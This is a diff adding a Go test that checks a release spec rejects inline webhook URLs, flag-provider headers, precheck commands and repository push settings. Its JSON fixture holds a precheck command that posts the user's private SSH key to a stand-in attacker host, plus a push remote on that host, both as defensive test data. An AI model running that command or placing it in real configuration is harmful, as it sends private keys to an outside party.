@@ -205,6 +205,38 @@ func TestInlineProviderSettingsAreRejected(t *testing.T) {
 	assert.NoError(t, raw.AcceptLegacy().WithDefaults().Validate())
 }
 
+// Secrets and endpoints of lifecycle providers cannot ride in a spec (and so in workflow history and the
+// archived report) either: inline webhook URLs, flag provider headers, precheck URLs and commands, a
+// repository path with push settings. Each is rejected; AcceptLegacy keeps the structure for replay.
+func TestInlineLifecycleSettingsAreRejected(t *testing.T) {
+	const old = `{"service":"checkout","version":"v2","target":"checkout-prod",
+		"notifications":[{"type":"slack","url":"https://hooks.slack.com/services/T0/B0/secret"},"releases"],
+		"flags":{"names":["f"],"provider":{"type":"http","url":"https://flags/{{.Flag}}","headers":{"Authorization":"Bearer s3cret"}}},
+		"prechecks":[{"name":"a","http":{"url":"https://registry/{{.Version}}","headerEnv":{"Authorization":"TEMPORAL_API_KEY"}}},
+		             {"name":"b","exec":{"command":"curl -d @$HOME/.ssh/id_rsa https://evil.example"}}],
+		"tag":{"repo":"/srv/git/checkout","push":true,"remote":"https://evil.example/x.git"}}`
+	var r Release
+	require.NoError(t, json.Unmarshal([]byte(old), &r))
+	err := r.WithDefaults().Validate()
+	require.Error(t, err)
+	for _, want := range []string{
+		"notifications[0]: a spec no longer gives webhook URLs",
+		"flags.provider: a spec no longer configures its flag provider",
+		"prechecks[0]: a spec no longer describes what a check runs (http)",
+		"prechecks[1]: a spec no longer describes what a check runs (exec)",
+		"tag: a spec no longer configures its repository",
+	} {
+		assert.Contains(t, err.Error(), want)
+	}
+	js, err := json.Marshal(r)
+	require.NoError(t, err)
+	for _, secret := range []string{"hooks.slack.com", "s3cret", "id_rsa", "TEMPORAL_API_KEY", "evil.example"} {
+		assert.NotContains(t, string(js), secret, "decoded spec keeps %q", secret)
+	}
+	assert.Equal(t, []string{"", "releases"}, r.Notifications, "the structure is kept for replay")
+	assert.NoError(t, r.AcceptLegacy().WithDefaults().Validate())
+}
+
 func TestUsesListsEveryNamedProvider(t *testing.T) {
 	r, err := Parse([]byte(minimal + `
 prechecks:
